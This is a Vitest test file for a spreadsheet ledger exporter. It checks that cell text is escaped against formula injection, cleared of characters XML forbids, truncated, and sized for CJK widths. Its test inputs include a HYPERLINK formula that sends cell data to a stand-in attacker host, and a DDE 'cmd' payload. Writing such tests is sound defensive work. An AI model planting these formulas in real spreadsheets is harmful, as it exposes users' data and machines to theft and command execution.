import { describe, expect, it } from 'vitest';
import { CELL_TEXT_MAX, columnWidth, displayWidth, safeCellText } from '../../domain/ledger-cells';

describe('ledger cell text', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    '=cmd|\' /C calc\'!A0',
    '+1+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋86 138',
    '－5',
    '＠SUM(1)',
  ];

  it.each(hostile)('writes %j as text that no spreadsheet evaluates', (value) => {
    const safe = safeCellText(value);
    expect(safe.startsWith("'")).toBe(true);
    expect(safe.slice(1)).toBe(value);
  });

  it('leaves ordinary text, text with a formula sign inside, and empty text alone', () => {
    for (const value of ['消防通道堵塞', 'a=b', '1-2', 'E-mail: x@y.cn', '', ' =1 (space first: not a formula)', "'already quoted"]) {
      expect(safeCellText(value)).toBe(value);
    }
  });

  it('drops characters XML forbids, which would make the workbook unreadable', () => {
    expect(safeCellText('危\u0000险\u0008品\u001F')).toBe('危险品');
    expect(safeCellText('\u0001=1+1')).toBe("'=1+1");
    expect(safeCellText('一行\n二行\t制表')).toBe('一行\n二行\t制表');
  });

  it('cuts text to what one cell holds', () => {
    const safe = safeCellText('长'.repeat(CELL_TEXT_MAX + 10));
    expect(safe.length).toBe(CELL_TEXT_MAX);
    expect(safe.endsWith('…')).toBe(true);
  });

  it('counts CJK characters as two widths and fits a column to its widest line', () => {
    expect(displayWidth('abc')).toBe(3);
    expect(displayWidth('隐患台账')).toBe(8);
    expect(displayWidth('甲〔2026〕1号')).toBe(2 + 2 + 4 + 2 + 1 + 2);
    expect(columnWidth(['标题', '消防通道堵塞'])).toBe(14);
    expect(columnWidth(['x'])).toBe(6);
    expect(columnWidth(['很'.repeat(100)])).toBe(60);
    expect(columnWidth(['短\n更长的一行文字'])).toBe(16);
  });
});
